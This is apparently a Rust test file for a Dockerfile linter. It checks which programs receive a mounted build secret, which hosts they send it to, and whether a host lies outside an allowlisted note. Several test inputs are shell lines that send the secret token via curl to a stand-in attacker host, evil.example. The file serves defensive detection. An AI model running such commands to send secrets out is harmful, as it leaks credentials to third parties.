//! The hosts that a secret is sent to, and those that are not permitted.

use super::super::check_file;
use crate::Rule;
use crate::bases::Bases;
use crate::check::{Setting, uses};
use crate::dockerfile::{File, read};
use crate::programs::Programs;
use crate::rules::Context;
use crate::uses::Use;

fn file(notes: &str, script: &str) -> File {
    let mounts = "--mount=type=secret,id=tok,required=true --mount=type=secret,id=var,env=VAR";
    let text = format!("FROM alpine\n{notes}RUN {mounts} <<'EOF'\n{script}\nEOF\n");
    read(&text).unwrap_or_else(|errors| panic!("{text}: {errors:?}"))
}

/// Returns the programs that get the secret `tok`, each with its hosts.
fn programs(script: &str) -> Vec<String> {
    let setting = Setting {
        context: &Context::default(),
        programs: Programs::NONE,
        bases: Bases::NONE,
    };
    let shown = |one: Use| {
        let hosts: Vec<String> = one.hosts.iter().map(ToString::to_string).collect();
        format!("{} -> {}", one.program, hosts.join(" "))
    };
    let all = uses(&file("", script), setting).into_iter();
    all.filter(|one| one.secret == "tok").map(shown).collect()
}

#[track_caller]
fn check(script: &str, expected: &[&str]) {
    let script = script.replace("TOK", "$(cat /run/secrets/tok)");
    let found = programs(&script);
    let other: Vec<&String> = found.iter().filter(|one| *one != "cat -> ").collect();
    assert_eq!(other, expected, "{script}");
}

const UNKNOWN: &str = "a host that is not known";

#[test]
fn hosts_of_urls() {
    check(
        r#"curl -H "Authorization: TOK" https://api.example.com/x -o x"#,
        &["curl -> api.example.com"],
    );
    check(
        r#"curl -fsS -u "x:TOK" api.example.com:8443/x -o x"#,
        &["curl -> api.example.com"],
    );
    check(
        r#"wget -q --header="A: TOK" -O x https://one.example/x http://two.example/y"#,
        &["wget -> one.example two.example"],
    );
    check(
        r#"git clone "https://x:TOK@github.com/a/b.git" b && rm -rf b"#,
        &["git clone -> github.com"],
    );
}

#[test]
fn hosts_of_programs() {
    check(
        "git -c credential.helper='!f() { echo password=$(cat /run/secrets/tok); }; f' \\\n\
         clone https://gitlab.com/a/b",
        &["git clone -> gitlab.com"],
    );
    check(
        "skopeo copy --src-creds x:TOK docker://reg.example/a dir:b",
        &["skopeo -> reg.example"],
    );
    check(
        r#"NPM_AUTH="TOK" npm ci"#,
        &["npm ci -> registry.npmjs.org"],
    );
    check(
        r#"NPM_AUTH="TOK" npm ci --registry https://npm.example.com/"#,
        &["npm ci -> npm.example.com"],
    );
}

#[test]
fn programs_that_send_nothing() {
    check("wc -c < /run/secrets/tok", &["wc -> "]);
    check(
        "openssl enc -d -aes-256-cbc -pass file:/run/secrets/tok -in a > /dev/null",
        &["openssl enc -> "],
    );
    // Another secret, and none.
    check(r#"curl -H "A: $VAR" https://api.example.com/x -o x"#, &[]);
}

#[test]
fn hosts_that_the_text_does_not_say() {
    let unknown = |program: &str| format!("{program} -> {UNKNOWN}");
    check(
        r#"read -r url < /url; curl -H "A: TOK" "$url" -o x"#,
        &[&unknown("curl")],
    );
    check(r#"frobctl --token "TOK""#, &[&unknown("frobctl")]);
    check(
        r#"curl -H "A: TOK" "https://$(hostname)/x" -o x"#,
        &[&unknown("curl")],
    );
}

fn refused(notes: &str, script: &str) -> Vec<String> {
    let found = check_file(&file(notes, script)).into_iter();
    found
        .filter(|finding| matches!(finding.rule, Rule::SecretToOtherHost | Rule::UnusedNote))
        .map(|finding| finding.message)
        .collect()
}

const NOTE: &str =
    "# dockerfile-dsl: only-to=tok hosts=\"api.example.com, *.acme.dev\" reason=\"ours\"\n";

/// Each refused host with the twin that is permitted.
#[test]
fn another_host_is_refused() {
    let other = "`tok` is sent by `curl` to evil.example, which is not among the permitted hosts";
    for (script, expected) in [
        (
            r#"curl -H "A: TOK" https://evil.example/x -o x"#,
            &[other][..],
        ),
        (r#"curl -H "A: TOK" https://api.example.com/x -o x"#, &[]),
        (r#"curl -H "A: TOK" https://a.acme.dev/x -o x"#, &[]),
        (r#"curl -H "A: $VAR" https://evil.example/x -o x"#, &[]),
        (
            r#"frobctl --token "TOK""#,
            &[
                "`tok` is sent by `frobctl` to a host that is not known, which is not among \
                 the permitted hosts",
            ],
        ),
        (r#"sort /run/secrets/tok > /dev/null"#, &[]),
        (
            r#"h=evil.example; for i in 1 2; do curl -H "A: TOK" "https://$h/$i" -o x; done"#,
            &[other],
        ),
    ] {
        let script = script.replace("TOK", "$(cat /run/secrets/tok)");
        assert_eq!(refused(NOTE, &script), expected, "{script}");
        assert_eq!(refused("", &script), [""; 0], "{script}");
    }
}

/// The list is for the whole file, wherever it stands.
#[test]
fn list_of_hosts_is_for_the_whole_file() {
    let text = "FROM alpine AS a\n\
        RUN --mount=type=secret,id=tok curl -K /run/secrets/tok https://evil.example -o x\n\
        FROM alpine\n\
        # dockerfile-dsl: only-to=tok hosts=good.example reason=x\n\
        RUN --mount=type=secret,id=tok curl -K /run/secrets/tok https://good.example -o x\n";
    let found = check_file(&read(text).expect("it can be read"));
    let lines = found
        .iter()
        .filter(|one| one.rule == Rule::SecretToOtherHost);
    let lines = lines.map(|one| text[..one.span.start].lines().count());
    assert_eq!(lines.collect::<Vec<_>>(), [2]);
}

/// A list for a secret that no step mounts has no effect.
#[test]
fn list_for_no_secret_is_unused() {
    let note = NOTE.replace("tok", "tko");
    let found = refused(&note, "wc -c < /run/secrets/tok");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(refused(NOTE, "wc -c < /run/secrets/tok"), [""; 0]);
}
